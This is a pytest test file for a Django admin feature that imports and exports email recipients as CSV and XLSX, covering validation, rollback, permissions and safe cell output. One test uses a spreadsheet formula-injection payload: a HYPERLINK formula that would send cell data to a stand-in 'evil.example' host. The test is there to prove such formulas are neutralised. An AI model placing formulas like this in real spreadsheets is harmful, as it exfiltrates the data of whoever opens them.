"""Importing and exporting recipients as CSV and XLSX: created or updated by email, all rows or none, safe cells."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from reporting.models import AuditEvent, Recipient, RecipientList
from reporting.recipients_io import read_table
from reporting.services import recipients as service

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("permission_groups")]
IMPORT = reverse("admin:reporting_recipient_import")
EXPORT = reverse("admin:reporting_recipient_export")


def csv_file(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_file(rows: list[list[object]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def run_import(content: bytes, filename: str = "people.csv", **options) -> service.ImportResult:
    return service.import_recipients(content=content, filename=filename, actor=None, **options)


def state() -> list[tuple]:
    """Every recipient as (email, name, active, attributes, its lists)."""
    return [
        (r.email, r.name, r.active, r.attributes, sorted(r.lists.values_list("name", flat=True)))
        for r in Recipient.objects.order_by("email")
    ]


@pytest.fixture
def lists():
    return RecipientList.objects.create(name="Board"), RecipientList.objects.create(name="Clients")


def test_it_adds_new_recipients_with_their_attributes_and_lists(lists):
    content = csv_file(
        [
            ["email", "name", "active", "lists", "client_id", "currency"],
            ["ann@example.com", "Ann", "yes", "Board; Clients", "C001", "EUR"],
            ["bob@example.com", "", "no", "", "C002", ""],
        ]
    )

    result = run_import(content)

    assert (result.problems, result.created, result.written) == ([], 2, True)
    assert state() == [
        ("ann@example.com", "Ann", True, {"client_id": "C001", "currency": "EUR"}, ["Board", "Clients"]),
        ("bob@example.com", "", False, {"client_id": "C002"}, []),
    ]
    event = AuditEvent.objects.get()
    assert event.summary == "Imported recipients from people.csv: 2 added, 0 changed, 0 unchanged."


def test_it_updates_a_recipient_matched_by_email_whatever_its_case_and_never_duplicates_it(lists):
    ann = Recipient.objects.create(email="Ann@Example.com", name="Ann", attributes={"client_id": "C001", "team": "A"})
    ann.lists.add(lists[0])
    content = csv_file([["Email", "lists", "client_id", "region"], ["ann@example.com", "Clients", "C009", "EU"]])

    result = run_import(content)

    assert (result.created, result.updated, result.problems) == (0, 1, [])
    assert state() == [
        # the file's spelling; name untouched (no column); attributes without a column kept
        ("ann@example.com", "Ann", True, {"client_id": "C009", "team": "A", "region": "EU"}, ["Clients"]),
    ]


def test_an_empty_cell_removes_that_attribute_and_an_unchanged_row_changes_nothing():
    Recipient.objects.create(email="ann@example.com", attributes={"client_id": "C001", "currency": "EUR"})
    Recipient.objects.create(email="bob@example.com", attributes={"client_id": "C002"})

    result = run_import(csv_file([["email", "currency"], ["ann@example.com", ""], ["bob@example.com", ""]]))

    assert (result.updated, result.unchanged) == (1, 1)
    assert [r[3] for r in state()] == [{"client_id": "C001"}, {"client_id": "C002"}]


def test_it_imports_an_xlsx_file_with_numbers_and_booleans_as_text(lists):
    content = xlsx_file(
        [["email", "name", "active", "lists", "client_id"], ["ann@example.com", "Ann", True, "Board", 1001]]
    )

    result = run_import(content, "people.xlsx")

    assert result.problems == []
    assert state() == [("ann@example.com", "Ann", True, {"client_id": "1001"}, ["Board"])]


# --- hostile and broken files: every problem in words, nothing written ---------------------------------------


@pytest.mark.parametrize(
    ("rows", "problem"),
    [
        ([["email"], ["not-an-address"]], "Row 2, column email: 'not-an-address' is not a valid email address."),
        ([["email"], [""]], "The file has no recipients: put one per row under the header row."),
        ([["name"], ["Ann"]], "The file has no email column: each row needs the recipient's email address."),
        ([["email"], [""], ["ann@example.com", ""], []], None),  # blank rows are skipped
        (
            [["email"], ["ann@example.com"], ["ANN@example.com"]],
            "Row 3, column email: ANN@example.com is already on row 2 (addresses are the same whatever their case).",
        ),
        (
            [["email", "lists"], ["ann@example.com", "Nope"]],
            "Row 2, column lists: there is no recipient list named 'Nope'",
        ),
        ([["email", "active"], ["ann@example.com", "maybe"]], "Row 2, column active: 'maybe' is not yes or no."),
        ([["email", "client id"], ["ann@example.com", "x"]], "Column B ('client id') is not an attribute name"),
        ([["email", "", "x"], ["ann@example.com", "1", "2"]], "Column B has no name in the header row"),
        ([["email", "code", "CODE"], ["a@example.com", "1", "2"]], "Column C ('CODE') is the same as column B."),
        (
            [["email", "note"], ["ann@example.com", "x" * 501]],
            "Row 2, column note: The value of 'note' is longer than 500 characters.",
        ),
        (
            [["email", "note"], ["ann@example.com", "a\x07b"]],
            "Row 2, column note: The value of 'note' contains a line break or another control character.",
        ),
        ([["email"], ["ann@example.com", "extra"]], "Row 2: it has more cells than the header has columns."),
    ],
)
def test_a_problem_is_named_in_words_and_nothing_is_written(rows, problem):
    result = run_import(csv_file(rows))

    if problem is None:
        assert (result.problems, Recipient.objects.count()) == ([], 1)
        return
    assert any(found.startswith(problem) for found in result.problems), result.problems
    assert result.written is False
    assert Recipient.objects.count() == 0
    assert AuditEvent.objects.count() == 0


def test_a_file_that_is_not_a_table_is_refused_in_words():
    assert run_import(b"\xff\xfe\x00garbage").problems == [
        "The CSV file is not UTF-8 text: save it as “CSV UTF-8” and try again."
    ]
    assert run_import(b"PK not a zip", "people.xlsx").problems == [
        "The file is not an Excel workbook (.xlsx) that can be read."
    ]
    assert run_import(b"email\n", "people.txt").problems == ["'people.txt' is neither a .csv nor an .xlsx file."]


def test_a_header_with_spaces_or_capitals_still_names_our_own_columns():
    result = run_import(csv_file([[" email ", "Name ", "ACTIVE"], ["ann@example.com", "Ann", "no"]]))

    assert result.problems == []
    assert state() == [("ann@example.com", "Ann", False, {}, [])]


def test_a_name_column_is_the_recipients_name_never_an_attribute():
    run_import(csv_file([["email", "NAME", "nickname"], ["ann@example.com", "Ann", "Annie"]]))

    assert state() == [("ann@example.com", "Ann", True, {"nickname": "Annie"}, [])]


def test_the_table_names_its_attribute_columns_by_name_not_by_position():
    table = read_table(
        csv_file([["email", "Name", "region", "desk"], ["ann@example.com", "Ann", "EU", "FX"]]), filename="a.csv"
    )

    assert table.attribute_columns == ["region", "desk"]


def test_a_formula_is_kept_as_plain_text_and_exported_so_that_no_spreadsheet_runs_it():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    run_import(csv_file([["email", "name", "link"], ["ann@example.com", "@SUM(1+1)", formula]]))
    assert state() == [("ann@example.com", "@SUM(1+1)", True, {"link": formula}, [])]

    exported_csv = service.export_recipients(recipients=Recipient.objects.all(), file_format="csv")
    rows = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))
    assert rows[1] == ["ann@example.com", "'@SUM(1+1)", "yes", "", "'" + formula]

    exported_xlsx = service.export_recipients(recipients=Recipient.objects.all(), file_format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(exported_xlsx)).active
    cells = {cell.value: cell.data_type for cell in sheet[2]}
    assert cells[formula] == "s" and cells["@SUM(1+1)"] == "s"  # text, not a formula ("f")


@pytest.mark.django_db(transaction=True)  # a real transaction, not a savepoint in the test's own
def test_a_row_in_error_among_a_hundred_writes_none_of_them(lists):
    Recipient.objects.create(email="keep@example.com", name="Before")
    rows = [["email", "name", "client_id"], ["keep@example.com", "After", "K"]]
    rows += [[f"r{n}@example.com", f"R{n}", f"C{n}"] for n in range(2, 101)]
    rows[57][0] = "broken@@example.com"  # the 57th data row, row 58 of the sheet

    result = run_import(csv_file(rows))

    assert result.problems == ["Row 58, column email: 'broken@@example.com' is not a valid email address."]
    assert state() == [("keep@example.com", "Before", True, {}, [])]


@pytest.mark.django_db(transaction=True)  # a real transaction, not a savepoint in the test's own
def test_a_failure_while_writing_row_57_rolls_back_every_row_before_it(monkeypatch):
    """The rows are all valid; the database fails on the 57th save: the transaction leaves nothing behind."""
    Recipient.objects.create(email="keep@example.com", name="Before")
    rows = [["email", "name"], ["keep@example.com", "After"]] + [[f"r{n}@example.com", ""] for n in range(2, 101)]
    saves = []
    original_save = Recipient.save

    def failing_save(self, *args, **kwargs):
        saves.append(self.email)
        if len(saves) == 57:
            raise RuntimeError("the database went away")
        return original_save(self, *args, **kwargs)

    monkeypatch.setattr(Recipient, "save", failing_save)
    with pytest.raises(RuntimeError):
        run_import(csv_file(rows))

    assert state() == [("keep@example.com", "Before", True, {}, [])]
    assert AuditEvent.objects.count() == 0


def test_a_dry_run_counts_what_it_would_do_and_writes_nothing():
    Recipient.objects.create(email="ann@example.com")

    result = run_import(
        csv_file([["email", "name"], ["ann@example.com", "Ann"], ["bob@example.com", ""]]), dry_run=True
    )

    assert (result.created, result.updated, result.written) == (1, 1, False)
    assert state() == [("ann@example.com", "", True, {}, [])]


def test_ten_thousand_rows_import_completely():
    rows = [["email", "name", "client_id", "currency"]]
    rows += [[f"user{n}@example.com", f"User {n}", f"C{n:05}", "EUR"] for n in range(10_000)]

    result = run_import(csv_file(rows))

    assert (result.problems, result.created) == ([], 10_000)
    assert Recipient.objects.count() == 10_000
    assert Recipient.objects.get(email="user9999@example.com").attributes == {"client_id": "C09999", "currency": "EUR"}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_imports_back_as_the_same_recipients(lists, file_format):
    ann = Recipient.objects.create(
        email="ann@example.com", name="Ann, Jr.", attributes={"client_id": "C001", "formula": "=1+1", "q": "'x"}
    )
    ann.lists.add(*lists)
    Recipient.objects.create(email="bob@example.com", active=False, attributes={"currency": "-EUR", "n": "-5"})
    Recipient.objects.create(email="cy@example.com", name="'=quoted")
    before = state()
    exported = service.export_recipients(recipients=Recipient.objects.all(), file_format=file_format)

    Recipient.objects.all().delete()
    result = run_import(exported, f"recipients.{file_format}")

    assert (result.problems, result.created) == ([], 3)
    assert state() == before


# --- the admin pages -----------------------------------------------------------------------------------------------


def upload(client, content: bytes, filename: str = "people.csv", **data):
    return client.post(IMPORT, {"file": SimpleUploadedFile(filename, content), **data})


@pytest.fixture
def editor(client, django_user_model):
    user = django_user_model.objects.create_user("ed", "ed@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Report editors"))
    client.force_login(user)
    return client


@pytest.fixture
def viewer(client, django_user_model):
    user = django_user_model.objects.create_user("vi", "vi@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Report viewers"))
    client.force_login(user)
    return client


def test_an_editor_imports_a_file_and_is_told_what_changed(editor):
    response = upload(editor, csv_file([["email", "region"], ["ann@example.com", "EU"]]))

    assert response.status_code == 302
    assert state() == [("ann@example.com", "", True, {"region": "EU"}, [])]
    page = editor.get(response.url).content.decode()
    assert "Imported people.csv: 1 added, 0 changed, 0 unchanged." in page
    assert AuditEvent.objects.get().actor.username == "ed"


def test_the_import_page_lists_every_problem_and_writes_nothing(editor):
    response = upload(editor, csv_file([["email", "lists"], ["bad", ""], ["ok@example.com", "Nope"]]))

    page = response.content.decode()
    assert response.status_code == 200
    assert "Nothing was imported: 2 problems in the file" in page
    assert "Row 2, column email: &#x27;bad&#x27; is not a valid email address." in page
    assert "Row 3, column lists: there is no recipient list named &#x27;Nope&#x27;" in page
    assert Recipient.objects.count() == 0


def test_a_check_only_upload_says_what_it_would_do(editor):
    response = upload(editor, csv_file([["email"], ["ann@example.com"]]), dry_run="on")

    assert "Importing it would make 1 added, 0 changed, 0 unchanged." in response.content.decode()
    assert Recipient.objects.count() == 0


def test_a_viewer_may_export_but_not_import(viewer):
    Recipient.objects.create(email="ann@example.com", attributes={"client_id": "C001"})

    refused = upload(viewer, csv_file([["email"], ["eve@example.com"]]))
    exported = viewer.get(EXPORT, {"format": "xlsx"})
    changelist = viewer.get(reverse("admin:reporting_recipient_changelist")).content.decode()

    assert refused.status_code == 403
    assert Recipient.objects.count() == 1
    assert exported.status_code == 200
    assert exported["Content-Disposition"] == 'attachment; filename="recipients.xlsx"'
    assert [cell.value for cell in openpyxl.load_workbook(io.BytesIO(exported.content)).active[2]] == [
        "ann@example.com",
        None,  # an empty cell
        "yes",
        None,
        "C001",
    ]
    assert IMPORT not in changelist and EXPORT in changelist


def test_the_import_page_renders_under_the_content_security_policy(editor):
    response = editor.get(IMPORT)

    page = response.content.decode()
    assert response.status_code == 200
    assert "script-src 'self'" in response["Content-Security-Policy"]
    assert 'enctype="multipart/form-data"' in page
    assert "<script>" not in page and " onclick=" not in page


def test_an_export_in_an_unknown_format_is_not_found(viewer):
    assert viewer.get(EXPORT, {"format": "pdf"}).status_code == 404
